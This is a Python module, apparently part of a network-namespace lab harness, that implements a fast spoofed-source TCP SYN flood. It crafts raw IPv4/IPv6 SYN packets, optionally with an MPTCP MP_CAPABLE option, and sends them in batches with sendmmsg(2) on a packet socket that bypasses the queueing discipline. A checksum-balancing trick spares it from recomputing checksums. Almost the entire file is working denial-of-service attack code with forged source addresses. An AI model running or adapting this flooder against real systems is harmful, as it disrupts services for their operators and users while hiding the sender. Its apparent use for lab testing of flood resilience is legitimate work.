# SPDX-License-Identifier: GPL-2.0-or-later
"""A SYN flood from made-up addresses, as fast as one thread can send: sendmmsg(2) on a packet socket.

No checksum is computed for any of the packets but the first: where one 16-bit word of a packet is n more than there,
another one under the same checksum is n less (RFC 1071).
"""

import ctypes
import os
import socket
import struct
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final

from common import packet
from common.mptcp_option import MP_CAPABLE_HMAC_SHA256, MP_CAPABLE_NO_JOIN_HERE
from lab.netns import Namespace

_BATCH: Final = 1024  # packets a system call
_LOW_PORTS: Final = 64  # of the 256 low bytes of the source port
_ROUNDS: Final = range(16, 256)  # high bytes of the source port
_ROUTER: Final = MP_CAPABLE_HMAC_SHA256 | MP_CAPABLE_NO_JOIN_HERE  # what a home router's MP_CAPABLE says
_ETHERNET: Final = 14
_SOL_PACKET, _PACKET_QDISC_BYPASS = 263, 20

_libc = ctypes.CDLL(None, use_errno=True)


@dataclass(frozen=True, slots=True)
class Sources:
    """The made-up addresses: `first`, and `count` - 1 more, each `step` more in the 16-bit word that ends at `word`.

    `word` counts the address' words from 1, so that 2 is the last of an IPv4 address and 4 the subnet of an IPv6 one.
    """

    first: str
    count: int
    word: int
    step: int = 1


@dataclass(frozen=True, slots=True)
class Target:
    address: str
    port: int


class _IoVec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _MmsgHdr(ctypes.Structure):
    """struct mmsghdr of socket(2)'s LP64."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iov", ctypes.POINTER(_IoVec)),
        ("iov_length", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint),
    )


class Flood(threading.Thread):
    """Sends for `seconds` from `node`'s Ethernet device to `neighbour`, a MAC address; `sent` counts the packets."""

    def __init__(
        self,
        node: Namespace,
        device: str,
        neighbour: str,
        sources: Sources,
        targets: Sequence[Target],
        seconds: float,
        *,
        capable: bool = False,
    ) -> None:
        """With `capable` the SYNs have MP_CAPABLE, as if from a router that bonds."""
        super().__init__(daemon=True)
        self.sent = 0
        self._seconds = seconds
        ethernet = bytes.fromhex(neighbour.replace(":", "")) + bytes(6)
        self._packets = _Packets([ethernet + _syn(sources, target, capable) for target in targets], sources)
        with node.entered():
            self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind((device, 0))
        self._socket.setsockopt(_SOL_PACKET, _PACKET_QDISC_BYPASS, 1)

    def run(self) -> None:
        until = time.monotonic() + self._seconds
        with self._socket:
            for batch, size in self._packets.forever():
                sent = _libc.sendmmsg(self._socket.fileno(), batch, size, 0)
                if sent < 0:
                    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
                self.sent += sent
                if time.monotonic() >= until:
                    return


class _Packets:
    """Every source with every low byte of its port to every target, in one buffer; the high byte changes as it goes."""

    def __init__(self, templates: Sequence[bytes], sources: Sources) -> None:
        (self._size,) = {len(template) for template in templates}
        self._tcp = _tcp_offset(templates[0])
        data = bytearray()
        for low in range(_LOW_PORTS):
            for number in range(sources.count):
                for template in templates:
                    data += self._variant(template, sources, number, low)
        self._data = data
        count = len(data) // self._size
        start = ctypes.addressof((ctypes.c_char * len(data)).from_buffer(data))
        self._vectors = (_IoVec * count)()
        self._messages = (_MmsgHdr * count)()
        for at, (message, vector) in enumerate(zip(self._messages, self._vectors, strict=True)):
            vector.base, vector.length = start + at * self._size, self._size
            message.iov, message.iov_length = ctypes.pointer(vector), 1

    def forever(self) -> Iterator[tuple[ctypes.c_void_p, int]]:
        """Batches for sendmmsg(2)."""
        count = len(self._messages)
        while True:
            for high in _ROUNDS:
                # The same byte of another word for balance: the high byte of the sequence number's lower half.
                self._data[self._tcp :: self._size] = bytes((high,)) * count
                self._data[self._tcp + 6 :: self._size] = bytes((255 - high,)) * count
                for first in range(0, count, _BATCH):
                    address = ctypes.addressof(self._messages) + first * ctypes.sizeof(_MmsgHdr)
                    yield ctypes.c_void_p(address), min(_BATCH, count - first)

    def _variant(self, template: bytes, sources: Sources, number: int, low: int) -> bytes:
        data = bytearray(template)
        more = number * sources.step
        if data[_ETHERNET] >> 4 == 4:
            _add(data, _ETHERNET + 12 + 2 * (sources.word - 1), more)
            _add(data, _ETHERNET + 4, -more)  # the identification, for the header's own checksum
        else:
            _add(data, _ETHERNET + 8 + 2 * (sources.word - 1), more)
        _add(data, self._tcp, low)
        _add(data, self._tcp + 4, -more)
        _add(data, self._tcp + 6, -low)
        return bytes(data)


def _add(data: bytearray, offset: int, number: int) -> None:
    (word,) = struct.unpack_from("!H", data, offset)
    struct.pack_into("!H", data, offset, word + number)


def _tcp_offset(frame: bytes) -> int:
    return _ETHERNET + (20 if frame[_ETHERNET] >> 4 == 4 else 40)


def _syn(sources: Sources, target: Target, capable: bool) -> bytes:
    """What all others are made from, from the Ethernet type on: no port yet, and room to be less in what balances."""
    tcp = struct.pack("!HHIIBBHHHBBH", 0, target.port, 0xFFFFFFFF, 0, 6 << 4, packet.SYN, 0xFFFF, 0, 0, 2, 4, 1460)
    if ":" in target.address:
        addresses = b"".join(socket.inet_pton(socket.AF_INET6, at) for at in (sources.first, target.address))
        kind, header = b"\x86\xdd", struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + addresses
    else:
        addresses = b"".join(socket.inet_pton(socket.AF_INET, at) for at in (sources.first, target.address))
        fields = (0x45, 0, 20 + len(tcp), 0xFFFF, 0, 64, socket.IPPROTO_TCP)
        check = _checksum(struct.pack("!BBHHHBBH", *fields, 0) + addresses)
        kind, header = b"\x08\x00", struct.pack("!BBHHHBBH", *fields, check) + addresses
    check = _checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
    syn = header + tcp[:16] + struct.pack("!H", check) + tcp[18:]
    return kind + (packet.insert_mp_capable(syn, flags=_ROUTER) if capable else syn)


def _checksum(data: bytes) -> int:
    """RFC 1071, of an even number of bytes."""
    return 0xFFFF - int.from_bytes(data, "big") % 0xFFFF
